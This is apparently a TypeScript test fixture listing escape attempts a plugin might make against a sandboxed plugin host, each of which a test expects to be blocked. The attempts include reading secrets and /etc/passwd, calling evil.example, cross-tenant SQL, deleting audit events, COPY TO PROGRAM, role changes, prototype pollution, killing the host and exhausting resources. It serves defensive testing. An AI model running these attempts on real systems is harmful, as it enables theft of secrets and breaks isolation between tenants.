/** What a plugin could try, each by its name. What comes back is what it got; throwing is getting nothing. */
import type { JobContext } from 'robnu/plugin'
import * as contract from 'robnu/plugin'
import { z } from 'zod'

/** What the test tells the plugin of the house that it is in. */
export interface Given {
  /** Files of the installation that are none of the plugin's. */
  readonly secretFile: string
  readonly configFile: string
  /** A file that is not there, in a folder that is. */
  readonly newFile: string
  /** The URL of a module of the core. */
  readonly coreModule: string
  /** Where somebody listens on this machine. */
  readonly port: number
  readonly otherSeller: string
}
export type Attack = (given: Given, ctx: JobContext) => unknown

const Any = z.unknown()
const exported: object = contract
const world = globalThis as unknown as Record<string, unknown>

/** As text, so that no check of a text before the start would find it. */
const node = async (name: string): Promise<Record<string, (...given: unknown[]) => unknown>> =>
  await import(`node:${name}`)
const call = async (module: string, name: string, ...given: unknown[]): Promise<unknown> => {
  const found = (await node(module))[name]
  if (typeof found !== 'function') throw new Error(`There is no ${name}`)
  return await found(...given)
}
const nothing = (what: string): never => {
  throw new Error(`Got no ${what}`)
}
const sqlOf = (text: string, ...values: unknown[]): Attack => (_given, ctx) =>
  ctx.scope((tx) => tx.any(Any, text, values))
const event = (emitter: unknown, good: string): Promise<unknown> =>
  new Promise((resolve, reject) => {
    const { once } = emitter as { once: (name: string, then: (value: unknown) => void) => void }
    once.call(emitter, good, () => resolve(good))
    once.call(emitter, 'error', reject)
  })

const files: Readonly<Record<string, Attack>> = {
  'environment': async () => {
    const { env } = (world['process'] ?? {}) as { env?: Record<string, string> }
    const deno = world['Deno'] as { env: { toObject: () => Record<string, string> } } | undefined
    const all = { ...env, ...deno?.env.toObject() }
    return all['ROBNU_SECRET'] ?? (await node('process').catch(() => undefined) as
      | { env?: Record<string, string> }
      | undefined)?.env?.['ROBNU_SECRET'] ??
      nothing('secret')
  },
  'configuration-file': ({ configFile }) => call('fs/promises', 'readFile', configFile, 'utf8'),
  'key-file': ({ secretFile }) => call('fs/promises', 'readFile', secretFile, 'utf8'),
  'system-file': () => call('fs/promises', 'readFile', '/etc/passwd', 'utf8'),
  'files-of-a-process': () => call('fs/promises', 'readFile', '/proc/self/environ', 'utf8'),
  'write-a-file': async ({ newFile }) => {
    await call('fs/promises', 'writeFile', newFile, 'hostile')
    return newFile
  },
  'module-of-the-core': async ({ coreModule }) => Object.keys(await import(coreModule)),
}

const network: Readonly<Record<string, Attack>> = {
  'undeclared-host': (_given, ctx) => ctx.http(Any, 'https://evil.example/take'),
  'declared-host-without-tls': (_given, ctx) => ctx.http(Any, 'http://api.bazaar.in/take'),
  'raw-fetch': async ({ port }) => (await fetch(`http://127.0.0.1:${port}/`)).status,
  'raw-socket': async ({ port }) =>
    event(await call('net', 'connect', port, '127.0.0.1'), 'connect'),
  'raw-https': async ({ port }) =>
    event(await call('http', 'get', `http://127.0.0.1:${port}/`), 'response'),
  'raw-websocket': ({ port }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://127.0.0.1:${port}/`)
      socket.onopen = () => {
        socket.close()
        resolve('open')
      }
      socket.onerror = () => reject(new Error('no socket'))
    }),
  'name-lookup': () => call('dns/promises', 'lookup', 'localhost'),
  'udp': async ({ port }) => {
    const socket = await call('dgram', 'createSocket', 'udp4') as {
      send: (text: string, port: number, host: string, then: (error?: Error) => void) => void
      close: () => void
      on: (event: 'error', then: (error: Error) => void) => void
    }
    return await new Promise((resolve, reject) => {
      socket.on('error', reject)
      socket.send('x', port, '127.0.0.1', (error) => {
        socket.close()
        if (error) reject(error)
        else resolve('sent')
      })
    })
  },
}

const database: Readonly<Record<string, Attack>> = {
  "another-plugin's-table": sqlOf('select * from bazaar_account_details'),
  'people-and-sessions': sqlOf('select * from identities, sessions'),
  'write-of-an-order': sqlOf(`update orders set status = 'DELIVERED'`),
  'write-of-the-audit-trail': sqlOf('delete from audit_events'),
  'rows-of-another-seller': async ({ otherSeller }, ctx) => {
    const rows = await ctx.scope((tx) =>
      tx.any(Any, 'select id from orders where seller_id = $1', [otherSeller])
    )
    return rows.length > 0 ? rows : nothing('rows')
  },
  'change-of-role': sqlOf('set role robnu_owner'),
  'change-of-seller': ({ otherSeller }, ctx) =>
    ctx.scope((tx) => tx.any(Any, `select set_config('app.seller_id', $1, false)`, [otherSeller])),
  'entry-of-its-own': ({ otherSeller }, ctx) =>
    ctx.scope((tx) =>
      tx.any(Any, `select app_enter('session', 'x', $1, now(), '')`, [otherSeller])
    ),
  'two-statements': sqlOf('select 1; reset role'),
  'end-of-the-transaction': sqlOf('commit'),
  'copy-to-a-program': sqlOf(`copy orders to program 'cat'`),
  'file-of-the-server': sqlOf(`select pg_read_file('/etc/passwd')`),
  'sleep-in-the-database': sqlOf('select pg_sleep(600)'),
  'lock-for-everybody': sqlOf('select pg_advisory_lock(1)'),
  'table-lock': sqlOf('lock table orders in access exclusive mode'),
  'text-run-as-sql': sqlOf(`select query_to_xml('select * from sessions', true, true, '')`),
  'anonymous-block': sqlOf('do $$ begin perform 1; end $$'),
  'new-table': sqlOf('create table hostile_more (id int)'),
  "another's-queue": (_given, ctx) => ctx.scope((tx) => tx.send('account-sync', { all: true })),
  'http-inside-a-transaction': (_given, ctx) =>
    ctx.scope(() => ctx.http(Any, 'https://api.bazaar.in/')),
  'kept-transaction': async (_given, ctx) => {
    const tx = await ctx.scope((tx) => Promise.resolve({ any: tx.any }))
    return await tx.any(Any, 'select id from orders')
  },
}

let kept: JobContext | undefined
const calls: Readonly<Record<string, Attack>> = {
  // the first call keeps its context, the second, of another seller, uses it
  'kept-context': async (_given, ctx) => {
    if (!kept) {
      kept = ctx
      return 'kept'
    }
    const before = kept
    kept = undefined
    return await before.scope((tx) => Promise.resolve(tx.sellerId))
  },
}

const runtime: Readonly<Record<string, Attack>> = {
  'prototype-of-objects': () => Reflect.set(Object.prototype, 'isHostile', true),
  'prototype-of-lists': () => Reflect.set(Array.prototype, 'isHostile', true),
  'promises': () => Reflect.set(Promise.prototype, 'isHostile', true),
  'parser-of-json': () => Reflect.set(JSON, 'isHostile', true),
  'global-fetch': () => Reflect.set(fetch, 'isHostile', true),
  'lists-of-the-contract': () => (contract.orderStates as unknown as string[]).push('HOSTILE'),
  'brand-of-the-contract': () => Reflect.set(exported, 'isPlugin', () => true) || nothing('change'),
  'commonjs': async ({ secretFile }) => {
    const { default: read } = await import('./require.cjs')
    return read(secretFile)
  },
  'loader-hooks': () =>
    call('module', 'registerHooks', {
      resolve: (a: unknown, b: unknown, next: (...x: unknown[]) => unknown) => next(a, b),
    }),
}

const process: Readonly<Record<string, Attack>> = {
  'exit': () => {
    const { process, Deno } = world as {
      process?: { exit: (code: number) => never }
      Deno?: { exit: (code: number) => never }
    }
    return process ? process.exit(3) : Deno?.exit(3)
  },
  'signal-to-the-host': async () => {
    const { process, Deno } = world as {
      process?: { kill?: (pid: number, signal: string | number) => void; ppid?: number }
      Deno?: { kill: (pid: number, signal: string) => void; ppid: number }
    }
    if (Deno) return Deno.kill(Deno.ppid, 'SIGCONT') ?? 'sent'
    const { kill, ppid } = process?.kill
      ? process
      : await node('process') as typeof process & object
    if (!kill) return nothing('signal')
    kill(ppid ?? 1, 'SIGCONT')
    return 'sent'
  },
  'program': () => call('child_process', 'execFileSync', '/bin/true') ?? 'ran',
  'worker-thread': async () => {
    const { Worker } = await import(`node:${'worker_threads'}`)
    return event(new Worker('1', { eval: true }), 'exit')
  },
  'native-code': () => {
    const { process } = world as { process?: { dlopen?: (...given: unknown[]) => void } }
    const Deno = world['Deno'] as
      | { dlopen?: (path: string, symbols: object) => unknown }
      | undefined
    if (Deno?.dlopen) return Deno.dlopen('libc.so.6', {})
    if (!process?.dlopen) return nothing('native code')
    try {
      process.dlopen({ exports: {} }, '/dev/null')
    } catch (error) {
      // the system was asked to load it, and it is nothing to be loaded
      if ((error as { code?: string }).code !== 'ERR_DLOPEN_FAILED') throw error
    }
    return 'loaded'
  },
  'debugger': () => call('inspector', 'open', 0, '127.0.0.1'),
}

const lasting: Readonly<Record<string, Attack>> = {
  'busy-loop': () => {
    for (;;);
  },
  'busy-and-polite': async () => {
    let sum = 0
    for (let turn = 0; turn < 20; turn++) {
      for (let i = 0; i < 1e6; i++) sum += i
      await new Promise((resolve) => setTimeout(resolve, 0))
    }
    return String(sum)
  },
  'secret-into-the-log': (_given, ctx) => {
    ctx.log('said', { token: 'the token of its account' })
    return 'said'
  },
  'gibibyte-of-memory': () => {
    const all: unknown[] = []
    for (let i = 0; i < 1024; i++) all.push(Array.from({ length: 131_072 }, (_, j) => j + i * 1.5))
    return all.length
  },
  'gibibyte-outside-of-the-heap': async () => {
    const all: Uint8Array[] = []
    for (let i = 0; i < 64; i++) {
      all.push(new Uint8Array(16 * 1024 * 1024).fill(i + 1))
      await new Promise((resolve) => setTimeout(resolve, 40))
    }
    return all.length
  },
  'answer-without-end': () => 'x'.repeat(80 * 1024 * 1024),
  'promise-without-end': () => new Promise(() => {}),
  'rejection-of-nobody': async () => {
    void Promise.reject(new Error('of nobody'))
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'still here'
  },
  'error-in-a-timer': async () => {
    setTimeout(() => {
      throw new Error('of a timer')
    }, 1)
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'still here'
  },
  'frames-of-its-own': async () => {
    const line = `${
      JSON.stringify({ t: 'ask', id: 1, call: 1, what: 'open', args: ['scope'] })
    }\nx\n`
    const { process, Deno } = world as {
      process?: { stdout?: { write: (text: string) => void } }
      Deno?: { stdout: { write: (bytes: Uint8Array) => Promise<number> } }
    }
    const { _stdout: hidden } = console as unknown as {
      _stdout?: { write?: (text: string) => void }
    }
    if (Deno) await Deno.stdout.write(new TextEncoder().encode(line))
    else if (process?.stdout) process.stdout.write(line)
    else if (hidden?.write) hidden.write(line)
    else await call('fs', 'writeSync', 1, line)
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'written'
  },
}

export const attacks: Readonly<Record<string, Attack>> = {
  ...files,
  ...network,
  ...database,
  ...calls,
  ...runtime,
  ...process,
  ...lasting,
}
